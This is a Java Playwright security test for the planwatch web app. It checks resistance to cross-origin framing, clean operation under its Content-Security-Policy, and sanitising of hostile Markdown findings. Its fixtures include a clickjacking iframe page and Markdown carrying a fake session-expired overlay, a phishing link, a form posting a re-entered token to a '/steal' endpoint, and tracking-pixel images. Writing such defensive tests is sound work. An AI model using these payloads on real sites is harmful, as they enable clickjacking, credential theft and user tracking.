package dev.planwatch.web;

import dev.planwatch.testing.Chromium;
import dev.planwatch.testing.FixtureWorkspace;
import dev.planwatch.testing.RequiresChromium;
import dev.planwatch.testing.Workspaces;

import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.LoadState;
import com.sun.net.httpserver.HttpServer;
import io.quarkus.test.common.TestResourceScope;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The page against pages and files that mean harm, in Chromium: a page of another origin cannot
 * frame it, it works under its own Content-Security-Policy on every view without one violation,
 * and a finding's Markdown renders as a document only (no styles, forms, inputs or remote
 * resources; links open outside the app without a referrer).
 */
@RequiresChromium
@QuarkusTest
@WithTestResource(value = FixtureWorkspace.class, scope = TestResourceScope.MATCHING_RESOURCES)
class HostilePageTest {

    /** Records every CSP violation the page reports, from the first script on. */
    private static final String RECORD_VIOLATIONS = "window.__violations = [];"
            + "document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI), true);";

    @RegisterExtension
    static final Chromium chromium = new Chromium();
    /** Another origin: the attacker's page and the tracker a finding points at. */
    private static HttpServer elsewhere;
    private static final List<String> elsewhereRequests = new CopyOnWriteArrayList<>();

    @TestHTTPResource("/")
    URI base;

    @BeforeAll
    static void startElsewhere() throws IOException {
        elsewhere = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        elsewhere.createContext("/", exchange -> {
            elsewhereRequests.add(exchange.getRequestURI().toString());
            byte[] body = new byte[0];
            if (exchange.getRequestURI().getPath().equals("/frame.html")) {
                String victim = exchange.getRequestURI().getQuery().substring("victim=".length());
                body = ("<!DOCTYPE html><html><body><p>Win a prize: click the button</p>"
                        + "<iframe id='victim' src='" + victim + "' width='1000' height='700' style='opacity:0.5'></iframe></body></html>")
                        .getBytes(StandardCharsets.UTF_8);
                exchange.getResponseHeaders().add("Content-Type", "text/html");
            }
            exchange.sendResponseHeaders(200, body.length == 0 ? -1 : body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        elsewhere.start();
    }

    @AfterAll
    static void stopElsewhere() {
        if (elsewhere != null) {
            elsewhere.stop(0);
        }
    }

    private static String elsewhereUrl(String path) {
        return "http://127.0.0.1:" + elsewhere.getAddress().getPort() + path;
    }

    private Page open(String fragment) {
        Page page = chromium.page();
        page.addInitScript(RECORD_VIOLATIONS);
        page.navigate(base.resolve("/" + fragment).toString());
        assertThat(page.getByTestId("connection")).hasText("Live");
        return page;
    }

    private static void assertNoViolations(Page page, String view) {
        Object violations = page.evaluate("() => window.__violations");
        assertEquals(List.of(), violations, view + ": CSP violations");
    }

    @Test
    void anotherOriginCannotFrameThePage() {
        Page attacker = chromium.page();
        String victim = base.resolve("/#/plans/alpha").toString();
        attacker.navigate(elsewhereUrl("/frame.html?victim=" + victim));
        attacker.waitForLoadState(LoadState.LOAD);
        Frame framed = attacker.frames().stream().filter(frame -> frame != attacker.mainFrame()).findFirst().orElseThrow();
        boolean loaded;
        try {
            loaded = Boolean.TRUE.equals(framed.evaluate("() => document.querySelector('pw-app') !== null"));
        } catch (RuntimeException refused) {
            loaded = false;
        }
        Chromium.screenshot(attacker, "hostile-framing-refused");
        assertFalse(loaded, "planwatch must not render inside another origin's frame (" + framed.url() + ")");
        List<String> errors = chromium.takeErrors();
        assertTrue(errors.stream().anyMatch(error -> error.contains("frame-ancestors") || error.contains("X-Frame-Options")), errors::toString);
    }

    @Test
    void everyViewWorksUnderItsOwnPolicy() {
        for (String view : List.of("#/", "#/plans", "#/plans/big", "#/plans/findings-mix", "#/orchestrators", "#/worktrees")) {
            Page page = open(view);
            assertThat(page.locator("main h1, h1").first()).isVisible();
            if (view.equals("#/plans/findings-mix")) {
                page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("1.1").setExact(true)).first().click();
                assertThat(page.getByTestId("finding")).not().isEmpty();
            }
            assertNoViolations(page, view);
            Chromium.screenshot(page, "csp-" + (view.equals("#/") ? "overview" : view.substring(view.lastIndexOf('/') + 1)));
        }
        assertEquals(List.of(), chromium.takeErrors(), "console errors");
    }

    @Test
    void aHostileFindingRendersAsADocumentOnly() {
        String name = "hostile-finding";
        String tracker = elsewhereUrl("/tracker.gif");
        Workspaces.writeAtomically("docs/plans/" + name + ".md", "# Hostile\n\n## Phase 1: Work\n- [x] 1.1 report\n");
        Workspaces.writeAtomically("docs/plan-outputs/" + name + "/status.json", "{\"planName\": \"Hostile\", \"tasks\": ["
                + "{\"id\": \"1.1\", \"phase\": \"Phase 1: Work\", \"description\": \"report\", \"status\": \"completed\"},"
                + "{\"id\": \"1.2\", \"phase\": \"Phase 1: Work\", \"description\": \"next\", \"status\": \"pending\"}]}");
        Workspaces.writeAtomically("docs/plan-outputs/" + name + "/findings/1.1.md", String.join("\n",
                "# Report",
                "",
                "<style>button, .controls, section { display: none !important } :host { background: red }</style>",
                "",
                "<div style=\"position: fixed; inset: 0; background: white; z-index: 9999\">Session expired</div>",
                "",
                "<a id=\"overlay\" class=\"notice\" href=\"" + elsewhereUrl("/phish") + "\" style=\"position: fixed; inset: 0; z-index: 10000\">Click anywhere</a>",
                "",
                "<form action=\"" + elsewhereUrl("/steal") + "\" method=\"post\"><input type=\"password\" name=\"token\""
                        + " placeholder=\"Re-enter your token\"><button>Send</button></form>",
                "",
                "![tracker](" + tracker + "?markdown)",
                "",
                "<img src=\"" + tracker + "?html\" srcset=\"" + tracker + "?srcset 2x\">",
                "<svg><image href=\"" + tracker + "?svg\"/></svg>",
                "<video poster=\"" + tracker + "?poster\"></video>",
                "",
                "[the documentation](" + elsewhereUrl("/doc") + ") and [an anchor](#/plans)",
                "",
                "<img alt=\"inline\" src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\">",
                "",
                "Plain text stays."));
        await().atMost(Duration.ofSeconds(15)).untilAsserted(() -> given().get("/api/plans/" + name + "/findings/1.1").then().statusCode(200));
        elsewhereRequests.clear();

        Page page = open("#/plans/" + name);
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("1.1").setExact(true)).first().click();
        Locator finding = page.getByTestId("finding");
        assertThat(finding).containsText("Plain text stays.");
        assertThat(finding.locator("img[alt=inline]")).hasCount(1);
        Chromium.screenshot(page, "hostile-finding");

        assertThat(finding.locator("style, form, input, button, textarea, svg, video, iframe")).hasCount(0);
        assertThat(finding.locator("[style], [class], [id], [srcset]")).hasCount(0);
        assertThat(finding.locator("img:not([src^='data:'])[src]")).hasCount(0);
        Locator links = finding.locator("a");
        assertThat(links).hasCount(3);
        for (int i = 0; i < links.count(); i++) {
            assertEquals("noopener noreferrer", links.nth(i).getAttribute("rel"), links.nth(i).innerHTML());
            assertEquals("_blank", links.nth(i).getAttribute("target"));
        }
        // The page's own controls are still there and usable.
        assertThat(page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Start…"))).isVisible();
        assertThat(page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Skip"))).isVisible();
        assertThat(page.getByTestId("plan-counts")).isVisible();
        // Parsing the finding's markup (before the sanitiser drops it) meets its inline styles: the
        // page's policy refuses them, which Chromium reports. Nothing else may be refused.
        @SuppressWarnings("unchecked")
        List<String> violations = (List<String>) page.evaluate("() => window.__violations");
        assertTrue(violations.stream().allMatch(v -> v.equals("style-src-elem inline") || v.equals("style-src-attr inline")), violations::toString);
        assertEquals(List.of(), elsewhereRequests, "nothing fetched from another site");
        assertEquals(List.of(), chromium.takeErrors().stream().filter(error -> !(error.contains("Applying inline style violates") && error.contains("/purify."))).toList(),
                "console errors");
        Workspaces.deletePlan(name);
    }
}
